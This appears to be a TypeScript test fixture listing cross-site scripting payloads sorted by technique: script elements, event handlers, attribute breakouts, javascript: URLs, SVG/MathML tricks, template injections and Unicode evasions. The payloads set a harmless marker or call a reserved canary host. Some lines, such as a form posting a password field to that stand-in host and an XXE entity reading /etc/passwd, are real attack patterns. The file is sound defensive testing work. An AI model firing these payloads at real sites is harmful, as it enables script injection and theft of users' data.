import { asWritten } from '../../application/shared/text.js';

/**
 * Texts that try to run a script, each in its own way. A script that runs sets `window.__xss` or requests
 * CANARY.
 */
export const CANARY = 'canary.invalid';
const AT = `//${CANARY}/`;

/** Whole elements, for pages that read a text as markup. */
const ELEMENTS = [
  '<script>__xss=1</script>',
  '<SCRIPT>__xss=1</SCRIPT>',
  '<scr<script>ipt>__xss=1</scr</script>ipt>',
  `<script src=${AT}a.js></script>`,
  `<script/src="data:text/javascript,__xss=1"></script>`,
  '<script type=module>__xss=1</script>',
  '<script>__xss=1//',
  '<script >__xss=1</script >',
  '<script/x>__xss=1</script/x>',
  '<xss id=x>made</xss>',
  '<xss onclick=__xss=1 style=position:fixed;inset:0>',
  `<iframe src=javascript:__xss=1></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src=${AT}frame>`,
  '<object data=javascript:__xss=1></object>',
  `<object data=${AT}o></object>`,
  '<embed src=javascript:__xss=1>',
  `<embed src=${AT}e type=text/html>`,
  `<base href=${AT}>`,
  '<base href=javascript:__xss=1//>',
  '<meta http-equiv=refresh content="0;url=javascript:__xss=1">',
  `<meta http-equiv=refresh content="0;url=${AT}m">`,
  `<link rel=stylesheet href=${AT}s.css>`,
  `<link rel=prefetch href=${AT}p>`,
  `<link rel=import href=${AT}i>`,
  `<style>@import '${AT}s.css';</style>`,
  `<style>*{background:url(${AT}b)}</style>`,
  `<form action=javascript:__xss=1><button>Go</button></form>`,
  `<form action=${AT}f><input name=password autofocus>`,
  '<button formaction=javascript:__xss=1>Go</button>',
  '<isindex action=javascript:__xss=1 type=image>',
  '<applet code=javascript:__xss=1>',
  '<frameset onload=__xss=1>',
  '<template><script>__xss=1</script></template>',
  '<portal src=javascript:__xss=1>',
  '<plaintext>',
  '<xmp><script>__xss=1</script></xmp>',
  '<dialog open onclose=__xss=1>Sign in again</dialog>',
];

/** Elements that run a script when they appear or when a user touches them. */
const HANDLERS = [
  '<img src=x onerror=__xss=1>',
  '<img src=x onerror="__xss=1"',
  '<img/src=x/onerror=__xss=1>',
  '<IMG SRC=x OnErRoR=__xss=1>',
  '<img src=x onerror=&#95;&#95;xss=1>',
  `<img src=${AT}i.png>`,
  `<img srcset="${AT}s.png 1x">`,
  `<img src=x onerror=eval(atob('X194c3M9MQ=='))>`,
  '<img src=x onerror=window["__x"+"ss"]=1>',
  '<img src=`x` onerror=`__xss=1`>',
  '<image src=x onerror=__xss=1>',
  '<body onload=__xss=1>',
  '<body onpageshow=__xss=1>',
  '<input autofocus onfocus=__xss=1>',
  '<select autofocus onfocus=__xss=1>',
  '<textarea autofocus onfocus=__xss=1>',
  '<keygen autofocus onfocus=__xss=1>',
  '<video src=x onerror=__xss=1>',
  '<video><source onerror=__xss=1>',
  `<video poster=${AT}v.png></video>`,
  '<audio src=x onerror=__xss=1>',
  `<audio autoplay src=${AT}a.mp3>`,
  '<details open ontoggle=__xss=1>x</details>',
  '<marquee onstart=__xss=1>x</marquee>',
  '<marquee loop=1 width=0 onfinish=__xss=1>x</marquee>',
  '<div style=animation-name:x onanimationstart=__xss=1>',
  '<div style="transition:color 1s" ontransitionrun=__xss=1>',
  '<div onpointerenter=__xss=1 style=position:fixed;inset:0>',
  '<a autofocus tabindex=1 onfocusin=__xss=1>x</a>',
  '<p contenteditable onbeforeinput=__xss=1 autofocus>x',
  '<div popover id=p onbeforetoggle=__xss=1>x</div>',
  '<div oncontentvisibilityautostatechange=__xss=1 style=content-visibility:auto>',
  '<object onerror=__xss=1 data=x>',
];

/** Texts that close the surrounding attribute, element or text. */
const BREAKOUTS = [
  '"><script>__xss=1</script>',
  `'><script>__xss=1</script>`,
  '" onmouseover="__xss=1',
  `' onmouseover='__xss=1`,
  '" autofocus onfocus=__xss=1 x="',
  `' autofocus onfocus=__xss=1 x='`,
  '` onmouseover=`__xss=1',
  '" style="position:fixed;inset:0" onclick="__xss=1',
  '"/><img src=x onerror=__xss=1>',
  '&quot;><img src=x onerror=__xss=1>',
  '" srcdoc="<script>parent.__xss=1</script>',
  '" href="javascript:__xss=1',
  '</title><script>__xss=1</script>',
  '</textarea><script>__xss=1</script>',
  '</style><script>__xss=1</script>',
  '</noscript><img src=x onerror=__xss=1>',
  '</template><img src=x onerror=__xss=1>',
  '</select><img src=x onerror=__xss=1>',
  '</option></select><script>__xss=1</script>',
  '</head><body onload=__xss=1>',
  '</main></div></body></html><script>__xss=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
];

/** Texts that close the surrounding JSON or script. */
const SCRIPTS = [
  '</script><script>__xss=1</script>',
  '</ScRiPt ><img src=x onerror=__xss=1>',
  '</script/><svg onload=__xss=1>',
  '<!--<script>',
  '<!--<script></script><script>__xss=1</script>-->',
  '<!-- <script> "</script><script>__xss=1</script>',
  '"};__xss=1;//',
  `'};__xss=1;//`,
  '"-(__xss=1)-"',
  `'-(__xss=1)-'`,
  '\\"};__xss=1;//',
  '\\u003cscript\\u003e__xss=1\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=__xss=1\\x3e',
  '"}],"__proto__":{"innerHTML":"<img src=x onerror=__xss=1>"},"x":[{"y":"',
  '*/__xss=1/*',
  ');__xss=1;(',
  ']]>;__xss=1;//',
];

/** Comments and sections, and broken ones that browsers repair. */
const COMMENTS = [
  '--><script>__xss=1</script>',
  '--!><img src=x onerror=__xss=1>',
  '<!--><img src=x onerror=__xss=1>-->',
  '<!---><script>__xss=1</script>',
  '<![CDATA[<script>__xss=1</script>]]>',
  ']]><script>__xss=1</script>',
  '<?xml version="1.0"?><script>__xss=1</script>',
  '<?php echo "x"; ?><script>__xss=1</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<!--[if IE]><script>__xss=1</script><![endif]-->',
  '<% __xss=1 %>',
];

/** Addresses that run a script. */
const ADDRESSES = [
  'javascript:__xss=1',
  'JaVaScRiPt:__xss=1',
  'javascript://x/%0a__xss=1',
  'javascript&colon;__xss=1',
  '&#106;avascript:__xss=1',
  '&#x6A&#x61vascript:__xss=1',
  'vbscript:__xss=1',
  'data:text/html,<script>parent.__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__xss=1"/>',
  `${AT}x`,
  `https:${AT}x`,
  `/\\${CANARY}/x`,
  'blob:null/__xss',
  '<a href=javascript:__xss=1>x</a>',
  '<a href=" javascript:__xss=1">x</a>',
  `<a href=x ping=${AT}ping>x</a>`,
];

const DRAWINGS = [
  '<svg onload=__xss=1>',
  '<svg/onload=__xss=1//',
  '<svg><script>__xss=1</script></svg>',
  '<svg><script href=data:text/javascript,__xss=1 /></svg>',
  '<svg><a xlink:href=javascript:__xss=1><text x=9 y=9>x</text></a></svg>',
  '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:__xss=1 /><text y=9>x</text></a>',
  '<svg><set attributeName=onmouseover to=__xss=1>',
  `<svg><use href=${AT}u.svg#x /></svg>`,
  '<svg><foreignObject><iframe src=javascript:__xss=1></foreignObject></svg>',
  '<svg><style><img src=x onerror=__xss=1></style></svg>',
  `<svg><image href=${AT}i.svg></svg>`,
  '<svg><title><img src=x onerror=__xss=1></title></svg>',
  '<math><mtext><script>__xss=1</script></mtext></math>',
  '<math href=javascript:__xss=1>x</math>',
  '<math><mi xlink:href=javascript:__xss=1>x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__xss=1&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=__xss=1></annotation-xml></math>',
];

const TEMPLATES = [
  '{{constructor.constructor("__xss=1")()}}',
  '{{$on.constructor("__xss=1")()}}',
  '${__xss=1}',
  '#{__xss=1}',
  '{__xss=1}',
  '{!__xss=1}',
  '<%= __xss=1 %>',
  '[[${__xss=1}]]',
  '{{{"<img src=x onerror=__xss=1>"}}}',
  '<div v-html="\'<img src=x onerror=__xss=1>\'" ng-app ng-init="__xss=1">',
  '[x](javascript:__xss=1)',
  '[x]: javascript:__xss=1',
  '![x](x"onerror="__xss=1)',
  `![x](https:${AT}i.png)`,
  '<javascript:__xss=1>',
  '**<img src=x onerror=__xss=1>**',
  '`<img src=x onerror=__xss=1>`',
  '$&<img src=x onerror=__xss=1>$`',
  '%3Cimg%20src=x%20onerror=__xss=1%3E',
  '&lt;img src=x onerror=__xss=1&gt;',
  '&amp;lt;script&amp;gt;__xss=1',
  '%253Cscript%253E__xss=1',
];

/** Letters that some programs convert to others. */
const LETTERS = [
  '＜script＞__xss=1＜/script＞',
  '﹤script﹥__xss=1﹤/script﹥',
  '‹img src=x onerror=__xss=1›',
  '¼script¾__xss=1¼/script¾',
  '+ADw-script+AD4-__xss=1+ADw-/script+AD4-',
  '<ſcript>__xss=1</ſcript>',
  '<ımg src=x onerror=__xss=1>',
  'À¼script>__xss=1',
  '<img\u3000src=x onerror=__xss=1>',
  '<img\u00a0src=x onerror=__xss=1>',
  '<\u0338script>__xss=1</script>',
  '<scr\u200bipt>__xss=1</scr\u200bipt>',
  '<scr\u00adipt>__xss=1</scr\u00adipt>',
  '<\ufeffscript>__xss=1</script>',
  'עברית <img src=x onerror=__xss=1> مرحبا',
  '😀<script>__xss=1</script>😀',
];

/** Accepted in fields of one line and of several lines. */
export const INJECTIONS: readonly string[] = [
  ...ELEMENTS,
  ...HANDLERS,
  ...BREAKOUTS,
  ...SCRIPTS,
  ...COMMENTS,
  ...ADDRESSES,
  ...DRAWINGS,
  ...TEMPLATES,
  ...LETTERS,
];

/** Accepted in fields of several lines, refused in fields of one line. */
export const IN_LINES: readonly string[] = [
  '<img\nsrc=x\nonerror=__xss=1>',
  '<img\tsrc=x\tonerror=__xss=1>',
  'java\nscript:__xss=1',
  'java\tscript:__xss=1',
  '[x]:\njavascript:__xss=1',
  '//\n__xss=1',
];

/** Refused in every text that people read. */
export const REFUSED: readonly string[] = [
  '<scr\0ipt>__xss=1</scr\0ipt>',
  '<\u0001script>__xss=1</script>',
  '<img\u000csrc=x onerror=__xss=1>',
  '<img\u000bsrc=x onerror=__xss=1>',
  '\u001bjavascript:__xss=1',
  '\u202e>tpircs/<1=ssx__>tpircs<',
  '\u2066<script>__xss=1</script>\u2069',
  '\u200f<img src=x onerror=__xss=1>',
  '//\u2028__xss=1',
  '//\u2029__xss=1',
  '<script\ud800>__xss=1</script>',
  '\udc00<script>__xss=1</script>',
  '<script\ufffe>__xss=1</script>',
  '<scr\u200dipt>__xss=1</script>',
  '<\u{e0001}script>__xss=1</script>',
  '\u2800<img src=x onerror=__xss=1>',
];

/**
 * Returns all accepted texts, joined into as few texts of several lines as possible.
 * @param max characters of each
 */
export function hostileTexts(max: number): string[] {
  const all: string[] = [];
  for (const injection of [...INJECTIONS.map(asWritten), ...IN_LINES]) {
    const last = all.at(-1);
    if (last !== undefined && last.length + injection.length < max) all[all.length - 1] += `\n${injection}`;
    else all.push(injection);
  }
  return all;
}
